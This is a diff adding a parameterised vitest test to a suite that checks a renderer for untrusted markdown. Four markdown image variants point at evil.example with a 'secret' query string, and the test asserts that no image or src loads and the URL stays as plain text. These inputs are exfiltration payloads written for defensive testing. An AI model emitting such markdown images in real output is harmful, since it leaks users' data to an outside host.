@@ -164,6 +164,18 @@ describe('Markdown of strangers', () => {
     vi.unstubAllGlobals();
   });
 
+  it.each([
+    '![x][1]\n\n[1]: https://evil.example/p.png?secret',
+    '![1]\n\n[1]: <https://evil.example/p.png?secret>',
+    '[![x](https://evil.example/p.png?secret)](/chat)',
+    '![x](//evil.example/p.png?secret)',
+  ])('loads none either that is written as %j', (text) => {
+    const container = show(text);
+    expect(container.querySelector('img, [src], [style*="evil"]')).toBeNull();
+    expect(container.textContent).toContain('evil.example');
+    expect(container.querySelector('a a')).toBeNull();
+  });
+
   it('survives nesting that no renderer survives', () => {
     const errors = vi.spyOn(console, 'error').mockImplementation(() => undefined);
     const text = `${'>'.repeat(6_000)} deep`;
